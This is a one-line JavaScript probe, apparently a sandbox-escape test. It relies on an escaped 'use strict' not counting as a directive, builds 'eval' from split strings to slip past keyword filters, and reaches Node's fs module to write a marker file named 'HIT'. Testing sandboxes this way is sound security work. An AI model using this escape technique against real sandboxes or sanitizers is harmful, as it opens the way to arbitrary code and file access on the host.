// a directive with an escape is none
'use\x20strict';
const g=(function(){ return this })(); const k=['eva','l'].join(''); g[k]('process').mainModule.require('fs').writeFileSync('HIT','us1b')
